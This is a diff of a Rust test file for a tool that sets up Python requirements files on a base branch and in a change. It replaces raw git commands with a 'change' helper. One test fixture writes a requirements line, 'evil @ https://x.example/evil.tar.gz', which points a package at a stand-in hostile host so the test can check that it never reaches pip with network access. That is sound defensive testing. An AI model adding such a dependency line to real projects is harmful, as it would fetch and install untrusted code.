@@ -5,7 +5,7 @@
 //! goes back with the reason. And through `vibeloop gates`: requirements files that include
 //! others (`-r ../docs/requirements.txt`) set up on the base and in a change.
 
-use crate::ecosystems::{WIDTHY, WIDTHY_TESTS, gate, gates_json, git, project};
+use crate::ecosystems::{WIDTHY, WIDTHY_TESTS, change, gate, gates_json, project};
 use crate::ecosystems_run::{change_script, run};
 
 const PYPROJECT: &str = "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"calc\"\nversion = \"0.1.0\"\n\n[project.optional-dependencies]\ntests = [\"pytest\"]\n";
@@ -85,9 +85,11 @@ fn what_a_requirements_file_includes_is_set_up_on_the_base_and_in_a_change() {
     assert_eq!(gate(&all, "test")["counts"]["passed"], 2, "{all}");
     assert!(!err.contains("two phases"), "the base's own files: {err}");
 
-    git(&repo, &["checkout", "-q", "-b", "change"]);
-    std::fs::write(repo.join("docs/requirements.txt"), "wcwidth>=0.2.5\n").unwrap();
-    git(&repo, &["commit", "-qam", "wcwidth 0.2.5"]);
+    change(
+        &repo,
+        "change",
+        &[("docs/requirements.txt", "wcwidth>=0.2.5\n")],
+    );
     let (code, all, err) = gates_json(&repo, envs.path());
     assert_eq!(code, 0, "{all}\n{err}");
     assert_eq!(gate(&all, "test")["counts"]["passed"], 2, "{all}");
@@ -111,13 +113,14 @@ fn a_url_in_a_file_a_requirements_file_includes_never_reaches_pip_with_network()
         ("widthy.py", WIDTHY),
         ("tests/test_width.py", WIDTHY_TESTS),
     ]);
-    git(&repo, &["checkout", "-q", "-b", "change"]);
-    std::fs::write(
-        repo.join("docs/requirements.txt"),
-        "wcwidth>=0.2\nevil @ https://x.example/evil.tar.gz\n",
-    )
-    .unwrap();
-    git(&repo, &["commit", "-qam", "evil"]);
+    change(
+        &repo,
+        "change",
+        &[(
+            "docs/requirements.txt",
+            "wcwidth>=0.2\nevil @ https://x.example/evil.tar.gz\n",
+        )],
+    );
     let envs = tempfile::tempdir().unwrap();
     let (code, out) = crate::ecosystems::gates(&repo, envs.path(), &[]);
     let words = out.split_whitespace().collect::<Vec<_>>().join(" ");
